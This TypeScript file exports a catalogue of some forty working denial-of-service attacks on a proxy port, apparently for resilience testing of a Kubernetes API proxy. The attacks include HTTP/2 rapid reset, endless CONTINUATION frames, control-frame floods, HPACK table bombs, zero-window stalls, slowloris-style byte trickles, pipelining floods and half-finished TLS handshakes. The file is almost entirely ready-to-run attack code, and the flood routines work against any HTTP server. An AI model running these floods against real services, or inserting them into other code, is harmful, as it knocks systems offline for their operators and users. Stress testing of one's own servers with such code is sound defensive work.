import { flags, frame, frameTypes, literals } from '../raw-http2.ts';
import {
  type Attack,
  type Hostile,
  headOf,
  http2,
  madeUpToken,
  nextTurn,
  openAgain,
  openConnection,
  openHttp2,
  openTcp,
  pause,
  times,
  uint32,
  type Victim,
} from './open-connections.ts';

const whole = flags.endHeaders | flags.endStream;

/** Many requests on one HTTP/2 connection, as one write. */
function requests(count: number, more: (at: number) => readonly (readonly [string, string])[], from = 0): Buffer {
  return Buffer.concat(
    times(count, (at) => frame(frameTypes.headers, whole, 2 * (from + at) + 1, http2.head(more(at)))),
  );
}

/** Sends the bytes on all connections, again and again, as fast as the server reads them. */
async function flood(connections: readonly Hostile[], next: () => Buffer | string): Promise<never> {
  for (;;) {
    let taken = 0;
    for (const connection of connections) if (connection.write(next())) taken++;
    // A pause keeps the attacker's own use of the CPU out of the measurement.
    if (taken === 0) await pause(5);
    else await nextTurn();
  }
}

/** Sends a few bytes on all connections from time to time. */
async function trickle(connections: readonly Hostile[], next: (at: number) => string, everyMs: number): Promise<never> {
  for (let at = 0; ; at++) {
    for (const connection of connections) connection.write(next(at));
    await pause(everyMs);
  }
}

function unread(victim: Victim, connections: number, streams: number, path: string, isLong = false): void {
  const more = isLong ? times(110, (at) => [`x-${at}`, 'a'.repeat(120)] as const) : [];
  times(connections, () =>
    openHttp2(victim, [
      http2.window(0),
      requests(streams, () => [[':path', path], ['authorization', madeUpToken()], ...more]),
    ]),
  );
}

/** Sends this many requests at once on each connection, and the next batch when all are answered. */
function askAgain(
  victim: Victim,
  connections: number,
  count: number,
  more: (at: number) => readonly (readonly [string, string])[],
): void {
  let stream = 0;
  times(connections, () =>
    openAgain(victim, count, () => {
      stream += count;
      return requests(count, more, stream - count);
    }),
  );
}

/** PADDED. RFC 9113, section 6.1. */
const padded = 8;
const frames = (count: number, one: Buffer) => Buffer.concat(times(count, () => one));
const floodFrames = (victim: Victim, connections: number, block: Buffer) =>
  flood(
    times(connections, () => openHttp2(victim, [http2.window(65_535)], true)),
    () => block,
  );
/** The head of a first request that stays open. Frames can refer to its stream. */
const openStream = frame(
  frameTypes.headers,
  flags.endHeaders,
  1,
  http2.head([
    [':method', 'POST'],
    [':path', '/api/v1/namespaces/default/pods'],
  ]),
);
/** The first bytes of a ClientHello that is never finished. RFC 8446, section 5.1. */
const halfHello = Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]);

/** The attacks on the proxy's port for clients, by name. */
export const attacks: Readonly<Record<string, Attack>> = {
  'HTTP/2: 28 connections with long heads and a bad path, window 0': (victim) => unread(victim, 28, 250, '/%zz', true),
  'HTTP/2: 20 connections with 250 made-up tokens each, window 0': (victim) => unread(victim, 20, 250, '/version'),
  'HTTP/2: 80 connections with 250 watches and made-up tokens each, window 0': (victim) =>
    unread(victim, 80, 250, '/api/v1/pods?watch=1'),
  'HTTP/2: discovery and OpenAPI, made-up tokens, window 0': (victim) => {
    for (const path of ['/apis', '/openapi/v2', '/openapi/v3']) unread(victim, 5, 250, path);
  },
  'HTTP/2: one-byte windows': (victim) => {
    times(20, () => openHttp2(victim, [http2.window(1), requests(250, () => [[':path', '/version']])]));
  },
  'HTTP/2: rapid reset': async (victim) => {
    const connections = times(8, () => openHttp2(victim, [], true));
    let stream = 1;
    await flood(connections, () => {
      const cancel = frame(frameTypes.reset, 0, stream, Buffer.from(uint32(8)));
      const block = Buffer.concat([frame(frameTypes.headers, whole, stream, http2.head([])), cancel]);
      stream += 2;
      return block;
    });
  },
  'HTTP/2: endless CONTINUATION frames': (victim) => {
    const block = frames(50, frame(frameTypes.continuation, 0, 1, literals([['x', 'a'.repeat(120)]])));
    const start = frame(frameTypes.headers, 0, 1, http2.head([]));
    return flood(
      times(8, () => openHttp2(victim, [start], true)),
      () => block,
    );
  },
  'HTTP/2: SETTINGS': (victim) => floodFrames(victim, 8, frames(500, frame(frameTypes.settings, 0, 0))),
  'HTTP/2: PING': (victim) => floodFrames(victim, 8, frames(500, frame(frameTypes.ping, 0, 0, Buffer.alloc(8)))),
  'HTTP/2: PING, answers never read': (victim) => {
    const block = frames(500, frame(frameTypes.ping, 0, 0, Buffer.alloc(8)));
    return flood(
      times(8, () => openHttp2(victim, [])),
      () => block,
    );
  },
  'HTTP/2: PRIORITY': (victim) =>
    floodFrames(victim, 8, frames(500, frame(frameTypes.priority, 0, 3, Buffer.from([0, 0, 0, 0, 1])))),
  'HTTP/2: WINDOW_UPDATE': (victim) =>
    floodFrames(victim, 8, frames(500, frame(frameTypes.windowUpdate, 0, 0, Buffer.from(uint32(1))))),
  'HTTP/2: empty DATA': (victim) => {
    const block = frames(500, frame(frameTypes.data, 0, 1));
    return flood(
      times(8, () => openHttp2(victim, [openStream], true)),
      () => block,
    );
  },
  'HTTP/2: a protocol error, then endless bytes': (victim) => {
    const block = Buffer.alloc(64 * 1024);
    return flood(
      times(8, () => openHttp2(victim, [frame(frameTypes.priority, 0, 0, Buffer.alloc(5))])),
      () => block,
    );
  },
  'HTTP/2: frames of an unknown type': (victim) => floodFrames(victim, 8, frames(500, frame(0xee, 0, 0))),
  'HTTP/2: frames of 16 KB of an unknown type': (victim) =>
    floodFrames(victim, 8, frames(10, frame(0xee, 0, 0, Buffer.alloc(16 * 1024)))),
  'HTTP/2: acknowledgements of SETTINGS never sent': (victim) =>
    floodFrames(victim, 8, frames(500, frame(frameTypes.settings, flags.ack, 0))),
  'HTTP/2: GOAWAY': (victim) => floodFrames(victim, 8, frames(500, frame(frameTypes.goaway, 0, 0, Buffer.alloc(8)))),
  'HTTP/2: DATA frames with only padding': (victim) => {
    const block = frames(
      200,
      frame(frameTypes.data, padded, 1, Buffer.concat([Buffer.from([254]), Buffer.alloc(254)])),
    );
    return flood(
      times(8, () => openHttp2(victim, [openStream], true)),
      () => block,
    );
  },
  'HTTP/2: DATA for streams that have ended': (victim) => {
    const block = frames(20, frame(frameTypes.data, 0, 1, Buffer.alloc(1_000)));
    return flood(
      times(8, () => openHttp2(victim, [requests(1, () => [[':path', '/%zz']])], true)),
      () => block,
    );
  },
  'HTTP/2: bad paths, 200 at once, without a pause': (victim) => askAgain(victim, 16, 200, () => [[':path', '/%zz']]),
  'HTTP/2: made-up tokens, 200 at once, without a pause': (victim) =>
    askAgain(victim, 16, 200, () => [
      [':path', '/api/v1/pods'],
      ['authorization', madeUpToken()],
    ]),
  'HTTP/2: heads with 5,000 one-byte fields': (victim) => {
    // Each field is indexed at 62 after the first one has been added to the dynamic table. RFC 7541, 6.1 and 6.2.1.
    const fields = Buffer.concat([Buffer.from([0x40, 1, 0x78, 1, 0x61]), Buffer.alloc(5_000, 0xbe)]);
    const head = Buffer.concat([http2.head([['authorization', madeUpToken()]]), fields]);
    let stream = 1;
    return flood(
      times(8, () => openHttp2(victim, [], true)),
      () => {
        stream += 2;
        return frame(frameTypes.headers, whole, stream, head);
      },
    );
  },
  'HTTP/2: one indexed field of 4 KB, repeated 15,000 times a head': (victim) => {
    // Added with incremental indexing (RFC 7541, 6.2.1), then indexed at 62.
    const name = Buffer.from([0x40, 1, 0x78]);
    const value = Buffer.concat([Buffer.from([0x7f, 0x81, 0x1e]), Buffer.alloc(0x7f + 0x81 - 0x80 + 0x1e * 128, 0x61)]);
    const bomb = Buffer.concat([http2.head([]), name, value, Buffer.alloc(12_000, 0xbe)]);
    let stream = 1;
    return flood(
      times(8, () => openHttp2(victim, [], true)),
      () => {
        stream += 2;
        return frame(frameTypes.headers, whole, stream, bomb);
      },
    );
  },
  'HTTP/2: 10,000 table size updates in one head': (victim) => {
    const block = Buffer.concat([Buffer.alloc(10_000, 0x20), http2.head([])]);
    let stream = 1;
    return flood(
      times(8, () => openHttp2(victim, [], true)),
      () => {
        stream += 2;
        return frame(frameTypes.headers, whole, stream, block);
      },
    );
  },
  'HTTP/1.1: 1,000 heads, one byte a second': (victim) =>
    trickle(
      times(1_000, () => openConnection(victim, headOf('GET /version'))),
      () => 'X',
      1_000,
    ),
  'HTTP/1.1: 1,000 bodies, one byte a second, made-up tokens': (victim) =>
    trickle(
      times(1_000, () =>
        openConnection(
          victim,
          `${headOf('POST /api/v1/namespaces/default/pods', `Authorization: ${madeUpToken()}\r\nContent-Length: 100000`)}\r\n\r\n`,
        ),
      ),
      () => 'x',
      1_000,
    ),
  'HTTP/1.1: 1,000 bodies announced by Expect and never sent': (victim) => {
    const line = 'POST /api/v1/namespaces/default/pods';
    times(1_000, () =>
      openConnection(
        victim,
        `${headOf(line, `Authorization: ${madeUpToken()}\r\nExpect: 100-continue\r\nContent-Length: 100000`)}\r\n\r\n`,
      ),
    );
  },
  'HTTP/1.1: pipelined bad paths, answers never read': (victim) => {
    const block = `${headOf('GET /%zz')}\r\n`.repeat(200);
    return flood(
      times(20, () => openConnection(victim, block)),
      () => block,
    );
  },
  'HTTP/1.1: pipelined requests, answers never read': (victim) => {
    const block = `${headOf('GET /apis')}\r\n`.repeat(200);
    return flood(
      times(20, () => openConnection(victim, block)),
      () => block,
    );
  },
  'HTTP/1.1: made-up tokens, without a pause': (victim) =>
    flood(
      times(16, () => openConnection(victim, '', { reads: true })),
      () => `${headOf('GET /api/v1/pods', `Authorization: ${madeUpToken()}`)}\r\n\r\n`,
    ),
  'HTTP/1.1: queries of 60 KB, made-up tokens': (victim) =>
    flood(
      times(16, () => openConnection(victim, '', { reads: true })),
      () => `${headOf(`GET /api/v1/pods?x=${'a'.repeat(60_000)}`, `Authorization: ${madeUpToken()}`)}\r\n\r\n`,
    ),
  'HTTP/1.1: 5,000 impersonated groups, made-up tokens': (victim) => {
    const groups = times(5_000, (at) => `Impersonate-Group: g${at}\r\n`).join('');
    return flood(
      times(16, () => openConnection(victim, '', { reads: true })),
      () => `${headOf('GET /api/v1/pods', `Authorization: ${madeUpToken()}\r\nImpersonate-User: u\r\n${groups}`)}\r\n`,
    );
  },
  'HTTP/1.1: a bad request, then endless bytes': (victim) => {
    const block = Buffer.alloc(64 * 1024);
    return flood(
      times(8, () => openConnection(victim, `${headOf('GET /%zz')}\r\n`)),
      () => block,
    );
  },
  'HTTP/1.1: one-byte chunks with long extensions, made-up tokens': (victim) => {
    const block = `1;x=${'a'.repeat(200)}\r\nx\r\n`.repeat(100);
    return flood(
      times(8, () => {
        const more = `Authorization: ${madeUpToken()}\r\nTransfer-Encoding: chunked\r\n`;
        return openConnection(victim, `${headOf('POST /api/v1/namespaces/default/pods', more)}\r\n`, { reads: true });
      }),
      () => block,
    );
  },
  'HTTP/1.1: trailers of 60 KB, made-up tokens': (victim) => {
    const trailers = times(600, (at) => `x-${at}: ${'a'.repeat(90)}\r\n`).join('');
    return flood(
      times(16, () => openConnection(victim, '', { reads: true })),
      () => {
        const more = `Authorization: ${madeUpToken()}\r\nTransfer-Encoding: chunked\r\n`;
        return `${headOf('POST /api/v1/namespaces/default/pods', more)}\r\n1\r\nx\r\n0\r\n${trailers}\r\n`;
      },
    );
  },
  'HTTP/1.1: 500 upgrades never completed': (victim) => {
    const line = 'POST /api/v1/namespaces/default/pods/web/exec?command=true';
    times(500, () =>
      openConnection(
        victim,
        `${headOf(line, `Authorization: ${madeUpToken()}\r\nConnection: Upgrade\r\nUpgrade: SPDY/3.1`)}\r\n\r\n`,
      ),
    );
  },
  'TLS: 1,000 handshakes that stop half-way': (victim) => {
    times(1_000, () => openTcp(victim, halfHello));
  },
  'TLS: silent connections': (victim) => {
    times(1_000, () => openTcp(victim, Buffer.alloc(0)));
  },
  'TLS: handshakes, one after another': async (victim) => {
    for (;;) {
      times(4, () =>
        openConnection(victim, headOf('GET /version', 'Connection: close\r\n\r\n'), { reads: true, again: false }),
      );
      await pause(20);
    }
  },
  'TLS: 500 handshakes at once, again and again': async (victim) => {
    for (;;) {
      times(500, () =>
        openConnection(victim, headOf('GET /version', 'Connection: close\r\n\r\n'), { reads: true, again: false }),
      );
      await pause(2_000);
    }
  },
};
